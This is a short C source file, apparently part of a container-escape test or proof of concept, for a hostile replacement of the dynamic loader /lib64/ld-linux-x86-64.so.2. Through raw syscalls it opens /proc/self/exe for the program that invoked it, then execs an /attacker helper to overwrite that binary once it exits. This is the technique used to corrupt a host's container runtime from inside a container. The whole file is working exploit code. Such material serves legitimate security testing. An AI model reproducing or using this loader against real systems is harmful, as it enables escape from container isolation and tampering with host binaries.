// A hostile dynamic loader: the image's /lib64/ld-linux-x86-64.so.2, which the kernel starts for any program that names
// it. It keeps the program that it was started for open, and has it overwritten once that does not run any more.
static long call(long number, long a, long b, long c) {
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return result;
}

void _start(void) {
    long fd = call(2, (long)"/proc/self/exe", 0, 0);
    if (fd < 0 || fd > 9) {
        call(1, 1, (long)"no descriptor\n", 14);
        call(60, 1, 0, 0);
    }
    char path[] = "/proc/self/fd/0";
    path[14] = '0' + fd;
    char *arguments[5];
    arguments[0] = "attacker";
    arguments[1] = "overwrite";
    arguments[2] = path;
    arguments[3] = "1";
    arguments[4] = 0;
    call(59, (long)"/attacker", (long)arguments, 0);
    call(60, 1, 0, 0);
}
